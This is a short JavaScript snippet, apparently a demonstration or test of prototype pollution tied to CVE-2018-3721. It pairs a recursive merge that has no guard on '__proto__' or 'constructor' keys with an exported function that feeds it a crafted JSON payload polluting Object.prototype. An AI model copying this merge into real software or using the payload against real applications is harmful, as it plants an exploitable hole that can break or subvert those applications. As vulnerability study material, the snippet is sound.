// From: CVE-2018-3721: nobody attacks but the data: a careless merge of what the caller sent.
// Ends: any value or error exception
const merge = (target, source) => {
  for (const key in source) {
    if (typeof source[key] === "object") target[key] = merge(target[key] ?? {}, source[key]);
    else target[key] = source[key];
  }
  return target;
};

export const attack = () => {
  merge({}, JSON.parse('{"__proto__":{"polluted":true,"toJSON":null},"constructor":{"prototype":{"polluted":true}}}'));
  return {}.polluted ?? null;
};
